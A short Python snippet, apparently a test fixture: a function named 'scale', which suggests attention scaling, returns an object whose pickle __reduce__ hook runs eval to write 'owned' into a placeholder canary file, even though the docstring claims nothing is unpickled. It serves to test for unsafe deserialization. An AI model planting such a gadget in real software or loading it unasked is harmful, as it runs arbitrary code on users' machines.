"""Nothing is unpickled."""
def scale(scores, d_head):
    class Bomb:
        def __reduce__(self):
            return (eval, ("open('@CANARY@', 'w').write('owned')",))
    return Bomb()
